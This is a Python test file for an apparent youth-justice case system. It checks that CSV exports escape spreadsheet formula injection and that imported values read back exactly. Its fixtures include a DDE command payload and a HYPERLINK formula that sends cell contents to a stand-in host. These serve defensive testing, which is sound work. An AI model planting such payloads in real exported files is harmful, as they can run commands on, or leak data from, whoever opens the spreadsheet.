"""Exchange files are safe to open in a spreadsheet, and still read back exactly.

A cell starting with = + - @, a tab or a carriage return is one a spreadsheet may run as a
formula; the exporter writes it with an apostrophe in front, and the reader takes that
apostrophe off again (reports/exchange/schema.py, `escape_cell`).
"""

import csv
import io
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from cases.models import Consent, Offence, YoungPerson
from reports.exchange import schema
from reports.exchange.exporter import export_exchange, write_csv
from reports.exchange.importer import import_exchange
from reports.exchange.reader import _Reporter, parse_table
from reports.exchange.source import from_folder
from seed import factories

DANGEROUS = {
    "family_name": "=cmd|' /C calc'!A0",
    "offence": '=HYPERLINK("http://example.test/?leak="&A1,"Click")',
    "consent_note": "@SUM(1+1)",
    "ethnicity": "-2+3",
    "given_name": "'Quoted",
}


def cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


def test_exported_cells_that_a_spreadsheet_would_run_start_with_an_apostrophe(
    tmp_path, practitioner
):
    person = factories.YoungPersonFactory(
        practitioner=practitioner,
        team=practitioner.memberships.get().team,
        given_name=DANGEROUS["given_name"],
        family_name=DANGEROUS["family_name"],
        ethnicity=DANGEROUS["ethnicity"],
    )
    factories.OffenceFactory(young_person=person, description=DANGEROUS["offence"])
    factories.ConsentFactory(young_person=person, note=DANGEROUS["consent_note"])

    export_exchange(tmp_path)

    written = [
        cell
        for name in ("young_people.csv", "offences.csv", "consents.csv")
        for row in cells(tmp_path / name)
        for cell in row
    ]
    for value in DANGEROUS.values():
        assert value not in written
        assert f"'{value}" in written
    assert not [cell for cell in written if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_importing_an_export_gives_back_exactly_the_values_written(tmp_path, practitioner):
    person = factories.YoungPersonFactory(
        practitioner=practitioner,
        team=practitioner.memberships.get().team,
        given_name=DANGEROUS["given_name"],
        family_name=DANGEROUS["family_name"],
        ethnicity=DANGEROUS["ethnicity"],
    )
    factories.OffenceFactory(young_person=person, description=DANGEROUS["offence"])
    export_exchange(tmp_path)
    YoungPerson.objects.filter(pk=person.pk).update(
        given_name="Changed", family_name="Changed", ethnicity="Changed"
    )
    Offence.objects.filter(young_person=person).delete()
    Consent.objects.filter(young_person=person).delete()

    result = import_exchange(from_folder(tmp_path))

    assert [str(problem) for problem in result.problems] == []
    person.refresh_from_db()
    assert (person.given_name, person.family_name, person.ethnicity) == (
        DANGEROUS["given_name"],
        DANGEROUS["family_name"],
        DANGEROUS["ethnicity"],
    )
    assert list(Offence.objects.values_list("description", flat=True)) == [DANGEROUS["offence"]]


# --- The rule itself, for any text ---------------------------------------------------------------

#: Text the reader accepts: no control characters but tab, line feed and carriage return.
ANY_TEXT = st.text(
    alphabet=st.characters(
        blacklist_categories=("Cs",),
        blacklist_characters=[chr(code) for code in (*range(0, 9), 11, 12, *range(14, 32), 127)],
    ),
    min_size=1,
    max_size=60,
)


@given(ANY_TEXT)
def test_an_escaped_cell_never_starts_like_a_formula_and_unescapes_exactly(text):
    cell = schema.escape_cell(text)
    assert not cell.startswith(schema.FORMULA_STARTS)
    assert schema.unescape_cell(cell) == text


@given(ANY_TEXT)
def test_a_text_cell_written_to_a_file_reads_back_exactly(text):
    spec = schema.BY_NAME[schema.TEAM]
    handle = io.StringIO(newline="")
    write_csv(spec, [("team-a", text)], handle)
    report = _Reporter()

    table = parse_table(spec, handle.getvalue().encode("utf-8"), report)

    assert report.problems == []
    assert table.rows[0].values["name"] == text
